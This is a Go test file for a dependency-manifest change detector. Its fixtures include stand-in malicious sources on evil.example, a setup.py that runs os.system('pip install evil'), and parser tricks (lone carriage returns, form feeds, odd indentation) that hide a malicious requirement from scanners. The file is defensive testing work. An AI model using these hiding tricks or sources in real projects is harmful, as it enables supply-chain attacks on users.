package deps

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/frognano/frognano/internal/secrettest"
)

// diffManifests parses a base and a patched version of one manifest and renders what List
// would report of it: the changes (short), then "path setting KIND NAME VALUE [index]",
// "path include PATH [constraint]" and "path unread LINE WHAT: WHY" lines of the patched side.
func diffManifests(t *testing.T, path, base, patched string) string {
	t.Helper()
	side := func(s string) *Manifest {
		if s == "" {
			return &Manifest{}
		}
		m, err := Parse(context.Background(), path, []byte(s))
		if err != nil {
			t.Fatalf("Parse: %v", err)
		}
		return m
	}
	o, c := side(base), side(patched)
	files := func(m *Manifest) []string {
		fs := make([]string, len(m.Settings))
		for i := range fs {
			fs[i] = path
		}
		return fs
	}
	var b strings.Builder
	b.WriteString(short(compare(o.Packages, c.Packages, len(c.Unread) > 0)))
	for _, s := range compareSettings(o.Settings, files(o), c.Settings, files(c)) {
		idx := ""
		if s.Index {
			idx = " [index]"
		}
		fmt.Fprintf(&b, "%s setting %s %s %s%s\n", s.File, s.Kind, s.Name, s.Value, idx)
	}
	for _, i := range c.Includes {
		con := ""
		if i.Constraint {
			con = " [constraint]"
		}
		fmt.Fprintf(&b, "%s include %s%s\n", path, i.Path, con)
	}
	for _, u := range c.Unread {
		fmt.Fprintf(&b, "%s unread %d %s: %s", u.File, u.Line, u.What, u.Why)
		if u.Detail != "" {
			fmt.Fprintf(&b, " [%s]", u.Detail)
		}
		b.WriteString("\n")
	}
	return b.String()
}

type construct struct {
	name, path, base, patched, want string
	// newSource: the names of the changes that are findings (Change.NewSource).
	newSource string
}

func runConstructs(t *testing.T, cases []construct) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := diffManifests(t, tc.path, tc.base, tc.patched); got != tc.want {
				t.Errorf("got\n%swant\n%s", got, tc.want)
			}
			m, _ := Parse(context.Background(), tc.path, []byte(tc.patched))
			var o []Package
			if tc.base != "" {
				mo, _ := Parse(context.Background(), tc.path, []byte(tc.base))
				o = mo.Packages
			}
			var found []string
			for _, c := range compare(o, m.Packages, false) {
				if c.NewSource() {
					found = append(found, c.Name)
				}
			}
			if got := strings.Join(found, " "); got != tc.newSource {
				t.Errorf("new sources %q, want %q", got, tc.newSource)
			}
		})
	}
}

// TestPipConstructs: what pip follows in a requirements file besides name==version.
func TestPipConstructs(t *testing.T) {
	t.Parallel()
	user := "deploy"
	runConstructs(t, []construct{
		{
			name: "NewExtraIndex", path: "requirements.txt",
			base:    "requests==2.31.0\n",
			patched: "--extra-index-url https://" + user + ":hunter22@pkgs.example/simple\nrequests==2.31.0\n",
			want:    "requirements.txt setting added --extra-index-url https://[REDACTED]@pkgs.example/simple [index]\n",
		},
		{
			name: "IndexOptionsInEveryForm", path: "requirements.txt",
			base: "--index-url https://a.example/simple\n",
			patched: "-ihttps://b.example/simple\n--extra-ind=https://c.example/simple\n-f ../wheels\n--trusted-host c.example\n" +
				"--pre --prefer-binary\n",
			want: "requirements.txt setting added --index-url https://b.example/simple [index]\n" +
				"requirements.txt setting added --extra-index-url https://c.example/simple [index]\n" +
				"requirements.txt setting added --find-links ../wheels [index]\n" +
				"requirements.txt setting added --trusted-host c.example [index]\n" +
				"requirements.txt setting added --pre \n" +
				"requirements.txt setting added --prefer-binary \n" +
				"requirements.txt setting removed --index-url https://a.example/simple [index]\n",
		},
		{
			// pip's option parser keeps the words that are not options and pip drops them
			// (pip 23.2.1's parse_requirements, checked): the options around them count, and
			// "--" ends the options. Each line was "pip would refuse the line" before, its
			// new index no finding, while pip installs from it.
			name: "WordsAmongOptionsAreIgnored", path: "requirements.txt",
			base: "requests==2.31.0\n",
			patched: "--extra-index-url https://a.example/#not a comment\n--extra-index-url 'https://b.example/' 'x'\n" +
				"-i https://c.example/ x --trusted-host d.example - -f ./w\n-r more.txt junk\n" +
				"--extra-index-url https://e.example/ -- --trusted-host f.example\nrequests==2.31.0\n",
			want: "requirements.txt setting added --extra-index-url https://a.example/#not [index]\n" +
				"requirements.txt setting added --extra-index-url https://b.example/ [index]\n" +
				"requirements.txt setting added --index-url https://c.example/ [index]\n" +
				"requirements.txt setting added --trusted-host d.example [index]\n" +
				"requirements.txt setting added --find-links ./w [index]\n" +
				"requirements.txt setting added --extra-index-url https://e.example/ [index]\n" +
				"requirements.txt include more.txt\n",
		},
		{
			name: "VersionBecomesURL", path: "requirements.txt",
			base:      "foo==1.0\nbar==2.0\n",
			patched:   "foo @ https://files.example/foo-1.0.tar.gz ; python_version >= \"3\"\nbar==2.0\n",
			want:      "requirements.txt PyPI foo changed 1.0->(no version) <url https://files.example/foo-1.0.tar.gz>\n",
			newSource: "foo",
		},
		{
			name: "RegistryBecomesGit", path: "requirements.txt",
			base:      "foo==1.0\n",
			patched:   "git+https://" + user + "@git.example/foo.git@v1.0#egg=foo\n",
			want:      "requirements.txt PyPI foo changed 1.0->(no version) <vcs git+https://[REDACTED]@git.example/foo.git@v1.0#egg=foo>\n",
			newSource: "foo",
		},
		{
			name: "EditableAndArchives", path: "sub/requirements.txt",
			patched: "-e git+ssh://git@git.example/bar.git#egg=bar\nhttps://files.example/baz-2.0-py3-none-any.whl\n" +
				"./vendor/qux\n../../outside/pkg\n--editable=.\n",
			want: "sub/requirements.txt PyPI  added ->(no version) <path .>\n" +
				"sub/requirements.txt PyPI  added ->(no version) <path ../../outside/pkg outside>\n" +
				"sub/requirements.txt PyPI  added ->(no version) <path ./vendor/qux>\n" +
				"sub/requirements.txt PyPI bar added ->(no version) <vcs git+ssh://git@git.example/bar.git#egg=bar>\n" +
				"sub/requirements.txt PyPI baz added ->(no version) <url https://files.example/baz-2.0-py3-none-any.whl>\n",
			newSource: "   bar baz",
		},
		{
			name: "URLIsNeverRemovedWhenItMoves", path: "requirements.txt",
			base:    "foo-bar @ https://files.example/foo-1.0.tar.gz\n",
			patched: "Foo_Bar  @ https://files.example/foo-1.0.tar.gz\n",
			want:    "",
		},
		{
			name: "IncludesAndConstraints", path: "requirements.txt",
			patched: "-r base.txt\n--requirement=dev/more.txt\n-c constraints.txt\n--constraint \"with space.txt\"\n" +
				"-r https://files.example/remote.txt\n",
			want: "requirements.txt setting added --requirement https://files.example/remote.txt [index]\n" +
				"requirements.txt include base.txt\nrequirements.txt include dev/more.txt\n" +
				"requirements.txt include constraints.txt [constraint]\nrequirements.txt include with space.txt [constraint]\n" +
				"requirements.txt unread 5 --requirement https://files.example/remote.txt: pip downloads this file when it runs; frognano reads only the repository\n",
		},
		{
			name: "WhatPipWouldRefuseOrExpandIsUnread", path: "requirements.txt",
			base: "six==1.16.0\nfoo==1.0\n",
			patched: "six==1.16.0\nfoo==${FOO_VERSION}\n--no-such-option x\n-r 'unclosed\n" +
				"bar==1.0 --index-url https://x.example/simple\n--hash=sha256:00\n",
			want: "requirements.txt PyPI bar added ->1.0\n" +
				"requirements.txt PyPI foo unlisted 1.0->\n" +
				"requirements.txt unread 3 --no-such-option x: pip would refuse the line: pip does not take this option [--no-such-option]\n" +
				"requirements.txt unread 4 -r 'unclosed: pip would refuse the line: a quote is not closed\n" +
				"requirements.txt unread 5 bar==1.0 --index-url https://x.example/simple: pip ignores the option --index-url on a requirement's line\n" +
				"requirements.txt unread 6 --hash=sha256:00: the option --hash belongs on a requirement's line\n" +
				"requirements.txt unread 2 foo==${FOO_VERSION}: it uses an environment variable, which pip expands when it runs\n",
		},
		{
			name: "ContinuationsAndComments", path: "requirements.txt",
			patched: "# a comment \\\nrequests==2.31.0 \\\n    --hash=sha256:00 # pinned\n-r \\\n  more.txt\n",
			want:    "requirements.txt PyPI requests added ->2.31.0\nrequirements.txt include more.txt\n",
		},
	})
}

// TestNPMConstructs: package.json specifiers that are not a version range, and overrides.
func TestNPMConstructs(t *testing.T) {
	t.Parallel()
	runConstructs(t, []construct{
		{
			name: "GitDependencies", path: "package.json",
			base: `{"dependencies": {"lodash": "^4.17.21"}}`,
			patched: `{"dependencies": {"lodash": "^4.17.21", "a": "github:user/a#v1", "b": "git+ssh://git@git.example:user/b.git",
				"c": "user/c", "d": "git+https://tok3n@git.example/d.git"}}`,
			want: "package.json npm a added ->(no version) <vcs github:user/a#v1>\n" +
				"package.json npm b added ->(no version) <vcs git+ssh://git@git.example:user/b.git>\n" +
				"package.json npm c added ->(no version) <vcs github:user/c>\n" +
				"package.json npm d added ->(no version) <vcs git+https://[REDACTED]@git.example/d.git>\n",
			newSource: "a b c d",
		},
		{
			name: "URLsPathsAndWorkspaces", path: "web/package.json",
			patched: `{"name": "web", "devDependencies": {"t": "https://files.example/t-1.0.0.tgz", "f": "file:../lib/f",
				"o": "file:../../../outside", "l": "link:./l", "w": "workspace:*", "g": "https://git.example/u/g.git#main"},
				"optionalDependencies": {"x": "1.2.3"}, "peerDependencies": {"react": ">=18"}}`,
			want: "web/package.json npm f added ->(no version) <path file:../lib/f>\n" +
				"web/package.json npm g added ->(no version) <vcs https://git.example/u/g.git#main>\n" +
				"web/package.json npm l added ->(no version) <path link:./l>\n" +
				"web/package.json npm o added ->(no version) <path file:../../../outside outside>\n" +
				"web/package.json npm react added ->>=18\n" +
				"web/package.json npm t added ->(no version) <url https://files.example/t-1.0.0.tgz>\n" +
				"web/package.json npm w added ->(no version) <path workspace:*>\n" +
				"web/package.json npm x added ->1.2.3\n",
			newSource: "f g l o t w",
		},
		{
			name: "AliasOfAnotherPackage", path: "package.json",
			base:      `{"name": "a", "version": "1.0.0", "dependencies": {"left-pad": "^1.3.0"}}`,
			patched:   `{"name": "a", "version": "1.0.0", "dependencies": {"left-pad": "npm:lefty-pad@^1.3.0"}}`,
			want:      "package.json npm left-pad changed ^1.3.0->^1.3.0 <package lefty-pad>\n",
			newSource: "left-pad",
		},
		{
			name: "OverridesResolutionsAndPnpm", path: "package.json",
			base: `{"dependencies": {"a": "1.0.0"}, "overrides": {"minimist": "1.2.6"}}`,
			patched: `{"dependencies": {"a": "1.0.0"}, "overrides": {"minimist": "1.2.5", "b": {".": "2.0.0", "c": "git+https://git.example/c.git"}},
				"resolutions": {"**/d": "3.0.0"}, "pnpm": {"overrides": {"e@1>f": "$a"}}}`,
			want: "package.json npm **/d(override) added ->3.0.0\n" +
				"package.json npm b(override) added ->2.0.0\n" +
				"package.json npm b > c(override) added ->(no version) <vcs git+https://git.example/c.git>\n" +
				"package.json npm e@1>f(override) added ->$a\n" +
				"package.json npm minimist(override) changed 1.2.6->1.2.5\n",
			newSource: "b > c",
		},
		{
			// Corepack fetches the package manager packageManager names (from a URL too), pnpm
			// applies patchedDependencies' files to a package's code and adds
			// packageExtensions' dependencies to other packages: none was listed before.
			name: "PackageManagerAndPnpmPatches", path: "package.json",
			base: `{"packageManager": "pnpm@9.0.0", "dependencies": {"a": "1.0.0"}}`,
			patched: `{"packageManager": "pnpm@https://evil.example/pnpm-9.0.0.tgz#sha512.abc", "dependencies": {"a": "1.0.0"},
				"pnpm": {"patchedDependencies": {"a@1.0.0": "patches/a.patch"},
				"packageExtensions": {"a@1": {"dependencies": {"evil": "git+https://evil.example/e.git"}, "peerDependencies": {"b": "2.0.0"}}}}}`,
			want: "package.json npm a@1 > b(extension) added ->2.0.0\n" +
				"package.json npm a@1 > evil(extension) added ->(no version) <vcs git+https://evil.example/e.git>\n" +
				"package.json npm a@1.0.0(patch) added ->(no version) <path patches/a.patch>\n" +
				"package.json npm pnpm(package manager) changed 9.0.0->(no version) <url https://evil.example/pnpm-9.0.0.tgz#sha512.abc>\n",
			newSource: "a@1 > evil a@1.0.0 pnpm",
		},
		{
			name: "PackageManagerVersion", path: "package.json",
			base:    `{"packageManager": "yarn@3.6.0"}`,
			patched: `{"packageManager": "yarn@4.1.0+sha224.abc", "pnpm": {"packageExtensions": ["x"]}}`,
			want: "package.json npm yarn(package manager) changed 3.6.0->4.1.0\n" +
				"package.json unread 0 pnpm.packageExtensions: it is not an object of packages and dependencies\n",
		},
		{
			name: "WhatIsNotReadIsUnread", path: "package.json",
			base:    `{"dependencies": {"p": "1.0.0", "q": "2.0.0"}}`,
			patched: `{"dependencies": {"p": "patch:p@1.0.0#./p.patch", "q": "catalog:", "r": "ftp://x.example/r.tgz", "s": ">= <= bad range"}, "devDependencies": ["x"]}`,
			want: "package.json npm p unlisted 1.0.0->\n" +
				"package.json npm q unlisted 2.0.0->\n" +
				"package.json unread 0 dependencies: p patch:p@1.0.0#./p.patch: yarn's patch: protocol is not read\n" +
				"package.json unread 0 dependencies: q catalog:: the version is in pnpm's catalog (pnpm-workspace.yaml), which frognano does not read\n" +
				"package.json unread 0 dependencies: r ftp://x.example/r.tgz: npm does not take this protocol\n" +
				"package.json unread 0 dependencies: s >= <= bad range: it is neither a version range nor a source npm takes\n" +
				"package.json unread 0 devDependencies: it is not an object of names and strings\n",
		},
	})
}

// TestGoAndCargoConstructs: go.mod's replace, retract and exclude; Cargo's sources, [patch]
// and [replace].
func TestGoAndCargoConstructs(t *testing.T) {
	t.Parallel()
	mod := "module example.com/m\n\ngo 1.22\n\nrequire golang.org/x/text v0.3.7\n"
	runConstructs(t, []construct{
		{
			name: "GoReplaceByALocalFolder", path: "go.mod",
			base:      mod,
			patched:   mod + "replace golang.org/x/text => ./third_party/text\n",
			want:      "go.mod Go golang.org/x/text(replace) added ->(no version) <path ./third_party/text>\n",
			newSource: "golang.org/x/text",
		},
		{
			name: "GoReplaceOutsideAndByAnotherModule", path: "tools/go.mod",
			base: mod + "replace golang.org/x/text v0.3.7 => golang.org/x/text v0.3.8\n",
			patched: mod + "replace golang.org/x/text v0.3.7 => ../../text\nreplace golang.org/x/net => example.com/fork/net v0.1.0\n" +
				"retract v1.0.0\nretract [v1.1.0, v1.2.0]\nexclude golang.org/x/sys v0.1.0\n",
			want: "tools/go.mod Go golang.org/x/net(replace) added ->0.1.0 <package example.com/fork/net>\n" +
				"tools/go.mod Go golang.org/x/text@v0.3.7(replace) changed 0.3.8->(no version) <path ../../text outside>\n" +
				"tools/go.mod setting added retract v1.0.0\n" +
				"tools/go.mod setting added retract [v1.1.0, v1.2.0]\n" +
				"tools/go.mod setting added exclude golang.org/x/sys v0.1.0\n",
			newSource: "golang.org/x/net golang.org/x/text@v0.3.7",
		},
		{
			name: "CargoSources", path: "Cargo.toml",
			base: "[package]\nname = \"app\"\n[dependencies]\nserde = \"1.0\"\nregex = \"1.5\"\n",
			patched: "[package]\nname = \"app\"\n[dependencies]\nserde = { git = \"https://git.example/serde\", tag = \"v1\" }\n" +
				"regex = { version = \"1.5\", package = \"regex-fork\" }\nlocal = { path = \"../local\", version = \"0.1\" }\n" +
				"[target.'cfg(unix)'.build-dependencies]\ncc = \"1.0.83\"\n[workspace.dependencies]\nrand = { version = \"0.8\", registry = \"internal\" }\n",
			want: "Cargo.toml crates.io cc added ->1.0.83\n" +
				"Cargo.toml crates.io local added ->0.1 <path ../local outside>\n" +
				"Cargo.toml crates.io rand added ->0.8 <registry internal>\n" +
				"Cargo.toml crates.io regex changed 1.5->1.5 <package regex-fork>\n" +
				"Cargo.toml crates.io serde changed 1.0->(no version) <vcs https://git.example/serde (tag v1)>\n",
			newSource: "local rand regex serde",
		},
		{
			name: "CargoPatchAndReplace", path: "Cargo.toml",
			base: "[dependencies]\nlibc = \"0.2\"\n",
			patched: "[dependencies]\nlibc = \"0.2\"\n[patch.crates-io]\nlibc = { git = \"https://git.example/libc\", rev = \"abc123\" }\n" +
				"[replace]\n\"openssl:0.10.0\" = { path = \"vendor/openssl\" }\n",
			want: "Cargo.toml crates.io libc(patch) added ->(no version) <vcs https://git.example/libc (rev abc123)>\n" +
				"Cargo.toml crates.io openssl:0.10.0(replace) added ->(no version) <path vendor/openssl>\n",
			newSource: "libc openssl:0.10.0",
		},
	})
}

// TestSetupConstructs: setup.py read without running it, setup.cfg and pyproject.toml.
func TestSetupConstructs(t *testing.T) {
	t.Parallel()
	runConstructs(t, []construct{
		{
			name: "SetupPyLiteral", path: "setup.py",
			base: "from setuptools import setup\nsetup(name='a', install_requires=['requests==2.25.0'])\n",
			patched: "from setuptools import setup\n\nREQUIRES = [\n    'requests==2.31.0',  # pinned\n    \"evil @ https://files.example/evil.tar.gz\",\n]\n\n" +
				"setup(\n    name='a',\n    install_requires=REQUIRES,\n    setup_requires=('wheel',),\n" +
				"    extras_require={'test': ['pytest>=7'], \"docs\": \"sphinx\"},\n)\n",
			want: "setup.py PyPI evil added ->(no version) <url https://files.example/evil.tar.gz>\n" +
				"setup.py PyPI pytest added ->>=7\n" +
				"setup.py PyPI requests changed 2.25.0->2.31.0\n" +
				"setup.py PyPI sphinx added ->(no version)\n" +
				"setup.py PyPI wheel(build) added ->(no version)\n",
			newSource: "evil",
		},
		{
			name: "SetupPyComputedIsUnread", path: "setup.py",
			base: "from setuptools import setup\nsetup(name='a', install_requires=['requests==2.25.0'])\n",
			patched: "import setuptools\nREQS = ['requests==2.25.0']\nREQS += open('extra.txt').read().split()\nkw = {}\n" +
				"setuptools.setup(name='a', install_requires=REQS, setup_requires=[f'x=={1}'], **kw)\n",
			want: "setup.py PyPI requests unlisted 2.25.0->\n" +
				"setup.py unread 5 install_requires=REQS: it is computed when setup.py runs (the name is not one literal assigned once); frognano does not run it\n" +
				"setup.py unread 5 setup_requires: an entry is not a plain string literal; frognano does not run setup.py\n" +
				"setup.py unread 5 setup(**...): setup() takes keyword arguments from a dict built when setup.py runs; frognano does not run it\n",
		},
		{
			name: "SetupPyWithoutSetup", path: "setup.py",
			patched: "import os\nos.system('pip install evil')\n",
			want:    "setup.py unread 0 : no setup() call was found; what setup.py does when it runs is not read\n",
		},
		{
			name: "SetupCfg", path: "setup.cfg",
			base: "[metadata]\nname = a\n[options]\ninstall_requires = requests==2.25.0\n",
			patched: "[metadata]\nname = a\nclassifiers =\n    Programming Language :: Python\n[options]\ninstall-requires =\n    requests==2.31.0\n" +
				"    # a comment\n    foo @ git+https://git.example/foo\nsetup_requires = file: build-requirements.txt\n" +
				"[options.extras_require]\ntest = pytest; mock>=5\n",
			want: "setup.cfg PyPI foo added ->(no version) <vcs git+https://git.example/foo>\n" +
				"setup.cfg PyPI mock added ->>=5\n" +
				"setup.cfg PyPI pytest added ->(no version)\n" +
				"setup.cfg PyPI requests changed 2.25.0->2.31.0\n" +
				"setup.cfg include build-requirements.txt\n",
			newSource: "foo",
		},
		{
			name: "PyprojectTables", path: "pyproject.toml",
			base: "[project]\nname = \"a\"\nversion = \"1\"\ndependencies = [\"requests==2.31.0\"]\n",
			patched: "[build-system]\nrequires = [\"setuptools>=61\", \"evil-backend @ https://files.example/b.whl\"]\n" +
				"[project]\nname = \"a\"\nversion = \"1\"\ndependencies = [\"requests==2.31.0\"]\ndynamic = [\"optional-dependencies\"]\n" +
				"[dependency-groups]\ndev = [\"pytest>=8\", {include-group = \"lint\"}]\n" +
				"[tool.setuptools.dynamic]\noptional-dependencies.extra = {file = [\"extra.in\"]}\n" +
				"[tool.uv]\nextra-index-url = [\"https://uv.example/simple\"]\n[[tool.uv.index]]\nname = \"x\"\nurl = \"https://idx.example/simple\"\n" +
				"[tool.uv.sources]\nrequests = { git = \"https://git.example/requests\", branch = \"main\" }\n" +
				"[tool.poetry.dependencies]\npython = \"^3.9\"\nflask = { version = \"2.0.0\", source = \"private\" }\n[[tool.poetry.source]]\nname = \"private\"\nurl = \"https://private.example/simple\"\n",
			want: "pyproject.toml PyPI evil-backend(build) added ->(no version) <url https://files.example/b.whl>\n" +
				"pyproject.toml PyPI flask added ->2.0.0 <registry private>\n" +
				"pyproject.toml PyPI pytest added ->>=8\n" +
				"pyproject.toml PyPI requests(override) added ->(no version) <vcs https://git.example/requests (branch main)>\n" +
				"pyproject.toml PyPI setuptools(build) added ->>=61\n" +
				"pyproject.toml setting added tool.uv.extra-index-url https://uv.example/simple [index]\n" +
				"pyproject.toml setting added tool.uv.index https://idx.example/simple [index]\n" +
				"pyproject.toml setting added tool.poetry.source https://private.example/simple [index]\n" +
				"pyproject.toml include extra.in\n" +
				"pyproject.toml unread 0 [project] dynamic: its dependencies are dynamic: the build backend computes them when it runs (setup.py and setup.cfg are read as files of their own)\n",
			newSource: "evil-backend flask requests",
		},
	})
}

// TestSetupReadLikeSetuptools: setup.cfg and setup.py are split into lines as Python reads
// them. configparser reads setup.cfg in universal-newline mode (a lone \r ends a line), strips
// and indents by Python's whitespace (\x1c is whitespace there) and takes a line for a value's
// continuation only when it is indented more than its key; setuptools splits a value with a
// newline by str.splitlines() (\f ends a requirement); a section header may be followed by
// text after its "]". Python's tokenizer ends a line of setup.py, and so a comment, at a lone
// \r. Before, each of these hid a requirement setuptools installs: read inside a comment, as
// the value of the key above, as the tail of another requirement (dropped with a comment), or
// under no section at all.
func TestSetupReadLikeSetuptools(t *testing.T) {
	t.Parallel()
	base := "[options]\ninstall_requires =\n    requests==2.31.0\n"
	evil := "setup.cfg PyPI evilpkg added ->6.6.6\n"
	runConstructs(t, []construct{
		{
			name: "CfgLoneCR", path: "setup.cfg", base: base,
			patched: base + "# a comment\rsetup_requires = evilpkg==6.6.6\n",
			want:    "setup.cfg PyPI evilpkg(build) added ->6.6.6\n",
		},
		{
			name: "CfgKeyIndentedLikeTheKeyAbove", path: "setup.cfg",
			base:    "[options]\n  zip_safe = False\n  install_requires = requests==2.31.0\n",
			patched: "[options]\n  zip_safe = False\n  install_requires = requests==2.31.0; evilpkg==6.6.6\n",
			want:    evil,
		},
		{
			name: "CfgFormFeedInAValue", path: "setup.cfg", base: base,
			patched: "[options]\ninstall_requires = # first\fevilpkg==6.6.6\n    requests==2.31.0\n",
			want:    evil,
		},
		{
			name: "CfgPythonWhitespaceIndent", path: "setup.cfg", base: base,
			patched: "[options]\n\x1csetup_requires = evilpkg==6.6.6\ninstall_requires =\n    requests==2.31.0\n",
			want:    "setup.cfg PyPI evilpkg(build) added ->6.6.6\n",
		},
		{
			name: "CfgSectionHeaderWithText", path: "setup.cfg",
			base:    "[options]\ninstall_requires = requests==2.31.0\n",
			patched: "[options] # the options\ninstall_requires = requests==2.31.0; evilpkg==6.6.6\n",
			want:    evil,
		},
		{
			name: "PyLoneCR", path: "setup.py",
			base: "from setuptools import setup\nsetup(name='a', install_requires=['requests==2.31.0'])\n",
			patched: "from setuptools import setup\nsetup(name='a', install_requires=['requests==2.31.0'],  # pinned\r" +
				"      setup_requires=['evilpkg @ https://evil.example/evilpkg-6.6.6.tar.gz'])\n",
			want:      "setup.py PyPI evilpkg(build) added ->(no version) <url https://evil.example/evilpkg-6.6.6.tar.gz>\n",
			newSource: "evilpkg",
		},
	})
}

// TestRedactURL: no credential of a URL is kept, whatever its form.
func TestRedactURL(t *testing.T) {
	t.Parallel()
	token := "ghp_" + secrettest.MadeUp(t, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 36)
	for in, want := range map[string]string{
		"https://user:pass@h.example/x":                   "https://[REDACTED]@h.example/x",
		"https://" + token + "@h.example/x":               "https://[REDACTED]@h.example/x",
		"git+ssh://git@h.example:u/r.git":                 "git+ssh://git@h.example:u/r.git",
		"https://h.example/a@b/c":                         "https://h.example/a@b/c",
		"https://h.example/f.tgz?X-Amz-Signature=abc&v=1": "https://h.example/f.tgz?X-Amz-Signature=[REDACTED]&v=1",
		"https://h.example/simple?token=s3cret#frag":      "https://h.example/simple?token=[REDACTED]#frag",
		"https://u:p@w@h.example/x":                       "https://[REDACTED]@h.example/x",
	} {
		if got := RedactURL(in); got != want {
			t.Errorf("RedactURL(%q) = %q, want %q", in, got, want)
		}
	}
	if got := RedactURL("https://h.example/x/" + token); strings.Contains(got, token) {
		t.Errorf("a token in the path stayed: %q", got)
	}
}

// TestLockFileSources: a lock file's entry that SCALIBR says comes from a repository stays a
// package of the lock file's ecosystem with that source: a change of source, never removed.
func TestLockFileSources(t *testing.T) {
	t.Parallel()
	commit := strings.Repeat("0123456789abcdef", 2) + "01234567"
	runConstructs(t, []construct{
		{
			name: "PackageLockEntryPinnedToACommit", path: "package-lock.json",
			base: `{"name": "w", "lockfileVersion": 3, "packages": {"": {"name": "w"},
				"node_modules/lodash": {"version": "4.17.21", "resolved": "https://files.example/lodash/-/lodash-4.17.21.tgz"}}}`,
			patched: `{"name": "w", "lockfileVersion": 3, "packages": {"": {"name": "w"},
				"node_modules/lodash": {"version": "4.17.21", "resolved": "git+ssh://git@git.example/evil/lodash.git#` + commit + `"}}}`,
			want:      "package-lock.json npm lodash changed 4.17.21->4.17.21 <vcs https://git.example/evil/lodash#" + commit + ">\n",
			newSource: "lodash",
		},
		{
			name: "PoetryLockEntryFromGit", path: "poetry.lock",
			base: "[[package]]\nname = \"attrs\"\nversion = \"23.1.0\"\n",
			patched: "[[package]]\nname = \"attrs\"\nversion = \"23.1.0\"\n[package.source]\ntype = \"git\"\nurl = \"https://git.example/attrs\"\n" +
				"reference = \"main\"\nresolved_reference = \"" + commit + "\"\n",
			want:      "poetry.lock PyPI attrs changed 23.1.0->23.1.0 <vcs (commit " + commit + ")>\n",
			newSource: "attrs",
		},
	})
}
